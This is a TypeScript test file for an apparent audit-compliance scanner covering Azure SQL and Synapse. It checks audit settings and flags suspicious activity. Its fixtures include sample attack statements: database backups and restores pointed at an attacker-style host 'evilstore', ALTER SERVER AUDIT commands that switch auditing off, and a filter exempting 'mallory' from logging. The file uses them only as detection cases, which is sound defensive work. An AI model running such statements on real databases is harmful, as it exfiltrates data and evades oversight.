import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { evaluate } from "../../src/core/evaluate.js";
import { RULES, ruleById } from "../../src/core/rules/registry.js";
import { storageAccountsIn } from "../../src/core/activity/classify.js";
import type { ActivityEvent, Observation } from "../../src/core/domain.js";
import { audit, baseline, goodDiagnostics, goodPolicy, LAW, miObservation, miSql, NOW, OTHER_LAW, serverObservation, spec } from "./fixtures.js";

const B = baseline();
const status = (observation: Observation, ruleId: string, b = B) => {
  const finding = evaluate(b, observation, NOW).find((f) => f.ruleId === ruleId);
  assert.ok(finding, `rule ${ruleId} ran`);
  return finding.status;
};
const unreadable = { ok: false as const, error: { code: "AuthorizationFailed", message: "no access" } };

describe("the catalog", () => {
  it("every rule has a stable id, a title, a rationale and a remedy", () => {
    for (const rule of RULES) {
      assert.match(rule.id, /^(mi|sql|synapse|activity)\.[a-z-]+(\.[a-z-]+)?$/);
      assert.ok(rule.title.length > 10 && rule.rationale.length > 30 && rule.remedy.length > 10, rule.id);
    }
    assert.equal(new Set(RULES.map((r) => r.id)).size, RULES.length);
  });
});

type Case = [ruleId: string, observation: Observation, expected: string];
const ev = (over: Partial<ActivityEvent>): ActivityEvent => ({
  time: "2026-11-24T11:30:00.000Z",
  actionId: "BA",
  actionName: "BACKUP",
  classType: "DB",
  statement: "BACKUP DATABASE [sales] TO URL = N'https://corpbackups.blob.core.windows.net/b/sales.bak'",
  serverPrincipalName: "dba@corp.example",
  databaseName: "sales",
  succeeded: true,
  ...over,
});
const withActivity = (events: ActivityEvent[], lastEventTime?: string | null): Observation => {
  const o = miObservation();
  o.activity = { ok: true, value: { window: { from: "2026-11-24T10:45:00.000Z", to: NOW.toISOString() }, events, ...(lastEventTime !== undefined ? { lastEventTime } : {}) } };
  return o;
};

const miCases: Case[] = [
  ["mi.engine-edition", miObservation(), "pass"],
  ["mi.engine-edition", miObservation(miSql({ engineEdition: 5 })), "error"],
  ["mi.audit.exists", miObservation(), "pass"],
  ["mi.audit.exists", miObservation(miSql({ audits: [] })), "fail"],
  ["mi.audit.exists", { ...miObservation(), sql: unreadable }, "error"],
  ["mi.audit.target", miObservation(), "pass"],
  ["mi.audit.target", miObservation(miSql({ audits: [audit({ target: { kind: "OTHER", description: "MDS_LOG" } })] })), "fail"],
  ["mi.audit.target", { ...miObservation(), sql: unreadable }, "error"],
  ["mi.audit.enabled", miObservation(), "pass"],
  ["mi.audit.enabled", miObservation(miSql({ audits: [audit({ isStateEnabled: false })] })), "fail"],
  ["mi.audit.started", miObservation(), "pass"],
  ["mi.audit.started", miObservation(miSql({ audits: [audit({ status: null })] })), "fail"],
  ["mi.audit.filter", miObservation(), "pass"],
  ["mi.audit.filter", miObservation(miSql({ audits: [audit({ predicate: "([server_principal_name]<>'mallory')" })] })), "fail"],
  ["mi.audit.filter", miObservation(miSql({ audits: [] })), "fail"],
  ["mi.audit.filter", { ...miObservation(), sql: unreadable }, "error"],
  ["mi.audit.options", miObservation(), "pass"],
  ["mi.audit.options", miObservation(miSql({ audits: [audit({ queueDelay: 3000 })] })), "fail"],
  ["mi.audit.options", miObservation(miSql({ audits: [audit({ onFailure: "FAIL_OPERATION" })] })), "fail"],
  ["mi.specification.exists", miObservation(), "pass"],
  ["mi.specification.exists", miObservation(miSql({ specifications: [] })), "fail"],
  ["mi.specification.groups", miObservation(), "pass"],
  ["mi.specification.groups", miObservation(miSql({ specifications: [spec({ groups: ["AUDIT_CHANGE_GROUP"] })] })), "fail"],
  ["mi.specification.enabled", miObservation(), "pass"],
  ["mi.specification.enabled", miObservation(miSql({ specifications: [spec({ isStateEnabled: false })] })), "fail"],
  ["mi.diagnostic-setting", miObservation(), "pass"],
  ["mi.diagnostic-setting", miObservation(miSql(), []), "fail"],
  ["mi.diagnostic-setting", miObservation(miSql(), [{ name: "x", workspaceId: OTHER_LAW, logs: [{ category: "SQLSecurityAuditEvents", enabled: true }] }]), "fail"],
  ["mi.diagnostic-setting", miObservation(miSql(), [{ name: "x", workspaceId: LAW, logs: [{ category: "Errors", enabled: true }] }]), "fail"],
  ["mi.diagnostic-setting", { ...miObservation(), diagnosticSettings: unreadable }, "error"],
];

const serverCases = (kind: "sql-server" | "synapse-workspace", p: string): Case[] => [
  [`${p}.auditing.enabled`, serverObservation(kind, goodPolicy), "pass"],
  [`${p}.auditing.enabled`, serverObservation(kind, { ...goodPolicy, state: "Disabled" }), "fail"],
  [`${p}.auditing.enabled`, { ...serverObservation(kind, goodPolicy), auditingPolicy: unreadable }, "error"],
  [`${p}.auditing.filter`, serverObservation(kind, goodPolicy), "pass"],
  [`${p}.auditing.filter`, serverObservation(kind, { ...goodPolicy, predicateExpression: "" }), "pass"],
  [`${p}.auditing.filter`, serverObservation(kind, { ...goodPolicy, predicateExpression: "statement not like '[select ]%'" }), "fail"],
  [`${p}.auditing.filter`, { ...serverObservation(kind, goodPolicy), auditingPolicy: unreadable }, "error"],
  [`${p}.auditing.monitor-target`, serverObservation(kind, goodPolicy), "pass"],
  [`${p}.auditing.monitor-target`, serverObservation(kind, { ...goodPolicy, isAzureMonitorTargetEnabled: false }), "fail"],
  [`${p}.auditing.action-groups`, serverObservation(kind, goodPolicy), "pass"],
  [`${p}.auditing.action-groups`, serverObservation(kind, { ...goodPolicy, auditActionsAndGroups: ["BATCH_COMPLETED_GROUP"] }), "fail"],
  [`${p}.auditing.retention`, serverObservation(kind, goodPolicy), "not-applicable"],
  [`${p}.auditing.retention`, serverObservation(kind, { ...goodPolicy, storageEndpoint: "https://a.blob.core.windows.net/", retentionDays: 0 }), "pass"],
  [`${p}.auditing.retention`, serverObservation(kind, { ...goodPolicy, storageEndpoint: "https://a.blob.core.windows.net/", retentionDays: 7 }), "fail"],
  [`${p}.auditing.retention`, serverObservation(kind, { ...goodPolicy, storageEndpoint: "https://a.blob.core.windows.net/", retentionDays: 365 }), "pass"],
  [`${p}.diagnostic-setting`, serverObservation(kind, goodPolicy), "pass"],
  [`${p}.diagnostic-setting`, serverObservation(kind, goodPolicy, []), "fail"],
];

const activityCases: Case[] = [
  ["activity.copy-only-backup", withActivity([ev({})]), "pass"],
  ["activity.copy-only-backup", withActivity([ev({ statement: "BACKUP DATABASE [x] TO URL = N'https://corpbackups.blob.core.windows.net/b/x.bak' WITH COPY_ONLY" })]), "fail"],
  ["activity.copy-only-backup", { ...miObservation(), activity: unreadable }, "error"],
  ["activity.unapproved-backup-destination", withActivity([ev({})]), "pass"],
  ["activity.unapproved-backup-destination", withActivity([ev({ statement: "BACKUP DATABASE [x] TO URL = N'https://evilstore.blob.core.windows.net/b/x.bak'" })]), "fail"],
  ["activity.unapproved-backup-destination", withActivity([ev({ actionId: "RS", statement: "RESTORE DATABASE [x] FROM URL = 'https://evilstore.blob.core.windows.net/b/x.bak'" })]), "fail"],
  ["activity.audit-tampering", withActivity([ev({ actionId: "AL", classType: "A", statement: "ALTER SERVER AUDIT [BackupRestoreAudit] WITH (STATE = OFF)", serverPrincipalName: "auditguard-scanner" })]), "pass"],
  ["activity.audit-tampering", withActivity([ev({ actionId: "AL", classType: "SA", statement: "ALTER SERVER AUDIT SPECIFICATION [s] WITH (STATE = OFF)" })]), "fail"],
  ["activity.audit-tampering", withActivity([ev({ actionId: "AUSC", classType: "A", statement: "" })]), "fail"],
  ["activity.audit-silence", withActivity([]), "not-applicable"],
];

describe("every rule: pass, fail, and unknown input", () => {
  for (const [ruleId, observation, expected] of [...miCases, ...serverCases("sql-server", "sql"), ...serverCases("synapse-workspace", "synapse"), ...activityCases]) {
    it(`${ruleId} → ${expected}`, () => {
      assert.ok(ruleById(ruleId), `${ruleId} is in the catalog`);
      assert.equal(status(observation, ruleId), expected);
    });
  }

  it("audit silence, when configured, fails after N hours without records", () => {
    const withSilence = baselineWithSilence();
    assert.equal(status(withActivity([], "2026-11-24T09:00:00.000Z"), "activity.audit-silence", withSilence), "pass");
    assert.equal(status(withActivity([], "2026-11-24T01:00:00.000Z"), "activity.audit-silence", withSilence), "fail");
    assert.equal(status(withActivity([], null), "activity.audit-silence", withSilence), "fail");
  });

  it("every rule of a kind covers the catalog for it", () => {
    const seen = new Set([...miCases, ...serverCases("sql-server", "sql"), ...serverCases("synapse-workspace", "synapse"), ...activityCases].map((c) => c[0]));
    for (const rule of RULES) assert.ok(seen.has(rule.id), `${rule.id} has table cases`);
  });
});

function baselineWithSilence() {
  const b = structuredClone(baseline());
  b.activity.silenceHours = 6;
  return b;
}

describe("helpers", () => {
  it("storage accounts are read from BACKUP TO URL and RESTORE FROM URL, striped too", () => {
    assert.deepEqual(storageAccountsIn("BACKUP DATABASE [d] TO URL = N'https://one.blob.core.windows.net/c/a.bak', URL = 'https://Two.blob.core.windows.net/c/b.bak'"), ["one", "two"]);
    assert.deepEqual(storageAccountsIn("BACKUP DATABASE [d] TO DISK = 'x'"), []);
  });
  it("the good fixtures are compliant", () => {
    assert.equal(evaluate(B, miObservation(miSql(), goodDiagnostics), NOW).filter((f) => f.status === "fail").length, 0);
  });
});
